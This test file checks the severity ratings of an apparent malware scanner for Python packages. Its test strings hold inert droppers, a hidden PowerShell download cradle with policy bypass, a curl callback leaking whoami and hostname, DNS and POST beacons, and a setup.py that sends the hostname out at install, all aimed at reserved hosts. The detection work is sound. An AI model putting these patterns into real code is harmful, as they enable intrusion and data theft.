// Second stages and install beacons seen in real malware, each on an inert imitation (reserved names and addresses
// only) next to the legitimate code it must not be confused with: a downloaded executable started as it is,
// PowerShell told to hide in abbreviated parameters, program names decoded at run time, identity sent by a shell
// substitution, a DNS query or a request with a body made by code that runs by itself, and setup.py running a
// script the archive does not hold.
import assert from 'node:assert/strict';
import { before, test } from 'node:test';
import { analyzeTarget, initAnalysis } from '../../src/analysis/api.ts';
import { analyzePythonFile } from '../../src/analysis/python-file.ts';
import type { OpenedArchive } from '../../src/model/entries.ts';
import type { Finding, TargetReport } from '../../src/model/result.ts';

before(() => initAnalysis());

function findings(source: string, path = 'demo/mod.py'): Finding[] {
  return analyzePythonFile(path, new TextEncoder().encode(source))[0].findings;
}
const ruleOf = (list: Finding[], rule: string) => list.find((f) => f.rule === rule);
const worst = (list: Finding[]) => {
  const order = ['info', 'low', 'medium', 'high', 'critical'];
  return list.reduce((top, f) => (order.indexOf(f.severity) > order.indexOf(top) ? f.severity : top), 'info');
};

async function analyseTarget(files: Record<string, string>): Promise<TargetReport> {
  const opened: OpenedArchive = {
    format: 'directory',
    problems: [],
    entries: Object.entries(files).map(([path, text]) => {
      const data = new TextEncoder().encode(text);
      return { path, type: 'file' as const, size: data.length, data };
    }),
  };
  return analyzeTarget(opened, { kind: 'directory', now: new Date('2026-11-30T00:00:00Z') });
}

test('an executable downloaded and started as it is, even only when called, is download-execute', () => {
  const dropper = findings(
    [
      'import os, subprocess, urllib.request, requests',
      'def update(url):',
      '    path = os.path.join("cache", "helper.exe")',
      '    urllib.request.urlretrieve(url, path)',
      '    subprocess.run([path])',
      'def start():',
      '    link = requests.get("https://links.example/api/win").json()["link"]',
      '    update(link)',
    ].join('\n'),
  );
  assert.equal(ruleOf(dropper, 'download-execute')?.severity, 'high');
  // the response written by the same function that fetched it is a download too
  const written = findings(
    [
      'import os, subprocess, requests',
      'def fetch():',
      '    data = requests.get("https://files.example/u").content',
      '    path = os.path.expanduser("~/.cache.ps1")',
      '    open(path, "wb").write(data)',
      '    subprocess.Popen(["powershell", "-File", path])',
    ].join('\n'),
  );
  assert.equal(ruleOf(written, 'download-execute')?.severity, 'high');
  // a script the code writes itself, with nothing fetched, stays a medium drop-and-run
  const generated = findings(
    [
      'import subprocess',
      'def build():',
      '    open("build.bat", "w").write("echo building")',
      '    subprocess.run(["build.bat"])',
    ].join('\n'),
  );
  assert.equal(ruleOf(generated, 'download-execute'), undefined);
  assert.equal(ruleOf(generated, 'drop-and-run')?.severity, 'medium');
});

test('PowerShell parameters are read as PowerShell reads them: abbreviated, hidden and bypassing policy is high', () => {
  const abbreviated = findings(
    "import subprocess\ndef go():\n    subprocess.Popen('powershell -W Hidden -Ep Bypass -C \"(New-Object Net.WebClient).DownloadString(\\'https://x.example/a\\')\"', shell=True)\n",
  );
  assert.equal(ruleOf(abbreviated, 'process-network-tool')?.severity, 'high');
  const slash = findings(
    'import subprocess\ndef go():\n    subprocess.Popen("powershell /win hidden /exec bypass -File run.ps1")\n',
  );
  assert.equal(ruleOf(slash, 'process-launch-payload')?.severity, 'high');
  // one of the two alone (a visible window) is not the hiding pattern
  const visible = findings(
    'import subprocess\ndef go():\n    subprocess.Popen("powershell -ExecutionPolicy Bypass -File run.ps1")\n',
  );
  assert.notEqual(worst(visible), 'high');
});

test('a PowerShell script that downloads and then Start-Process the file is download-execute', () => {
  const list = findings(
    [
      'import subprocess',
      'def go():',
      '    subprocess.Popen(\'powershell -C "$z=\\"$env:TEMP\\\\a.zip\\";(New-Object Net.WebClient).DownloadFile(\\"https://files.example/a.zip\\",$z);Expand-Archive $z $env:TEMP;if(Test-Path $e){Start-Process $e}"\')',
    ].join('\n'),
  );
  assert.equal(ruleOf(list, 'download-execute')?.severity, 'high');
});

test('a program whose name the file never writes (decoded at run time) is high, even when only called', () => {
  const decoded = findings(
    [
      'import base64, subprocess',
      'def go(path):',
      '    name = base64.b64decode("cG93ZXJzaGVsbC5leGU=").decode()',
      '    subprocess.Popen([name, "-File", path])',
    ].join('\n'),
  );
  const launch = decoded.find((f) => f.capability === 'process');
  assert.equal(launch?.severity, 'high');
  assert.match(launch!.message, /'powershell' is written nowhere in the file/);
  // the same program named in the code is what it says
  const plain = findings('import subprocess\ndef go(path):\n    subprocess.Popen(["powershell.exe", "-File", path])\n');
  assert.notEqual(plain.find((f) => f.capability === 'process')?.severity, 'high');
});

test("a network tool sent the user's identity through shell substitutions is a recon callback", () => {
  const recon = findings(
    'import subprocess\ndef cb():\n    subprocess.run(["curl", "http://192.0.2.9/c?u=$(whoami)&h=$(hostname)"])\n',
  );
  assert.equal(ruleOf(recon, 'process-network-tool')?.severity, 'high');
  const fetch = findings(
    'import subprocess\ndef get():\n    subprocess.run(["curl", "-O", "https://files.example/a.tgz"])\n',
  );
  assert.equal(ruleOf(fetch, 'process-network-tool')?.severity, 'medium');
});

test('a DNS query or a request with a body, made on import to a named host, is a beacon (high)', () => {
  const dns = findings('import socket\nsocket.gethostbyname("demo.callbacks.example")\n');
  assert.equal(ruleOf(dns, 'egress-dns-lookup')?.severity, 'high');
  const post = findings('import requests\nrequests.post("https://beacon.example/p.php", data={"t": "hello"})\n');
  assert.equal(ruleOf(post, 'egress-network-call')?.severity, 'high');
  // the same calls made only when the user calls them, and a plain GET on import, stay below high
  const called = findings('import socket\ndef check():\n    socket.gethostbyname("demo.callbacks.example")\n');
  assert.equal(ruleOf(called, 'egress-dns-lookup')?.severity, 'low');
  const get = findings('import requests\nrequests.get("https://api.example/version")\n');
  assert.equal(ruleOf(get, 'egress-network-call')?.severity, 'medium');
});

test('setup.py running a script the archive does not hold is high; a file given to sys.executable is analysed', async () => {
  const missing = await analyseTarget({
    'setup.py':
      'import os, sys\nfrom setuptools import setup\nos.system(f\'{sys.executable} "{os.path.join(os.path.dirname(__file__), "post.py")}"\')\nsetup(name="demo")\n',
  });
  const launch = missing.files.flatMap((f) => f.findings).find((f) => f.capability === 'process');
  assert.equal(launch?.severity, 'high');
  assert.match(launch!.message, /the archive has no post\.py/);
  const oddName = await analyseTarget({
    'setup.py':
      'import os, subprocess, sys\nfrom setuptools import setup\nsubprocess.Popen([sys.executable, os.path.join(os.path.dirname(__file__), "demo", "version")])\nsetup(name="demo")\n',
    'demo/version':
      'import requests, socket\nrequests.post("https://collector.example/in", data=socket.gethostname())\n',
  });
  const version = oddName.files.find((file) => file.path === 'demo/version');
  assert.equal(version?.findings.find((f) => f.rule === 'exfiltration')?.trigger, 'install');
});
